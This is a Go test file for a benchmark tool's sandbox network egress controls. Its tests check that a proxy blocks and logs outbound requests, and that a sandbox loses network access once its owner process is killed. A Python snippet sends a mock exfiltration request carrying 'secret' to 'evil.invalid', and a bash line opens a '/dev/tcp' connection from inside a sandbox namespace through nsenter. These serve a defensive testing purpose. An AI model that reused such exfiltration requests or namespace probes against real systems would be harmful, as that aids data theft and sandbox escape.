package main

import (
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/securebench/sbench/internal/test/must"
	"github.com/securebench/sbench/run/record"
)

// egressPack writes a pack with a terminal task whose harness may reach some domains.
func (h testHost) egressPack(command string) string {
	rows := taskRow("open", "true", "") + taskRow("closed", "true", `, "environment": {"network": "none"}`)
	return writePack(h.t, h.t.TempDir(), rows, fmt.Sprintf("harness: {type: command, config: {allowed_domains: [allowed.invalid], command: %q}}\n", command))
}

// TestCommandWayOut: a command harness finds its proxy in its environment. The proxy refuses and logs. A task's
// "network: none" overrides the tester file.
func TestCommandWayOut(t *testing.T) {
	h := newHost(t)
	tester := h.egressPack(`env | grep -i proxy | sort; cat /etc/resolv.conf
python3 - <<'P'
import socket, urllib.request as u
try: print(socket.gethostbyname("missing.invalid"))
except OSError: pass
for url in ("https://evil.invalid/", "http://evil.invalid/?q=secret", "https://allowed.invalid/", "http://127.0.0.1:22/"):
    try: u.urlopen(url, timeout=20); print(url, "reached")
    except Exception as e: print(url, e)
P`)
	output := filepath.Join(h.dir, "out")
	h.sbench(0, "run", "--progress=none", "--config", tester, "--output-dir", output)
	records := map[string]record.Record{}
	for _, r := range recordsOf(t, output) {
		records[r.TaskID] = r
	}
	open := records["open"]
	must.Contains(t, open.ProducerStdout, "HTTPS_PROXY=http://127.0.0.1:3128", "https_proxy=", "ALL_PROXY=", "no_proxy=127.0.0.1,localhost,::1", "nameserver 127.0.0.53", "NODE_USE_ENV_PROXY=1", "JAVA_TOOL_OPTIONS=-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort=3128", "evil.invalid/ <urlopen error Tunnel connection failed: 403", "evil.invalid/?q=secret HTTP Error 403")
	if strings.Contains(open.ProducerStdout, "reached") || !open.NetworkEnabled || open.Egress == nil || open.Egress.Proxy.Denied < 2 {
		t.Errorf("%+v", open)
	}
	if closed := records["closed"]; strings.Contains(closed.ProducerStdout, "PROXY") || strings.Contains(closed.ProducerStdout, "reached") || closed.Egress != nil {
		t.Errorf("network none: %+v", closed)
	}
	log := must.Read(t, filepath.Join(output, "egress.jsonl"))
	must.Contains(t, string(log), `"kind":"connect","host":"evil.invalid","port":443`, `"kind":"dns","host":"missing.invalid","verdict":"deny"`, `"verdict":"deny"`, `"host":"allowed.invalid"`, `"verdict":"error"`, `"task":"open"`)
	if strings.Contains(string(log), "secret") || strings.Contains(string(log), `"task":"closed"`) {
		t.Errorf("the egress log holds too much:\n%s", log)
	}
	h.sbench(0, "verify", output)
}

// TestKilledWayOut: if sbench is killed, a sandbox that outlives it loses its network
// access.
func TestKilledWayOut(t *testing.T) {
	h := newHost(t)
	before := h.runs()
	tester := h.egressPack("sleep 3000; : " + h.mark("way-out"))
	cmd := exec.Command("sbench", "run", "--progress=none", "--config", tester, "--task", "open", "--output-dir", filepath.Join(h.dir, "out"))
	cmd.Env = h.env
	must.Do(t, cmd.Start())
	h.await("way-out")
	inside := h.pidOf("way-out")
	dial := func() string {
		out, _ := exec.Command("nsenter", "--net=/proc/"+inside+"/ns/net", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/3128 && echo open").CombinedOutput()
		return string(out)
	}
	must.Equal(t, "open\n", dial()) // while sbench lives
	must.Do(t, cmd.Process.Signal(syscall.SIGKILL))
	_ = cmd.Wait()
	if !h.alive("way-out") {
		t.Error("the sandbox died with its owner, so that this test shows nothing")
	}
	must.Contains(t, dial(), "Connection refused") // after its end
	dead := difference(h.runs(), before)
	h.sbench(0, "gc")
	h.cleared(dead...)
}
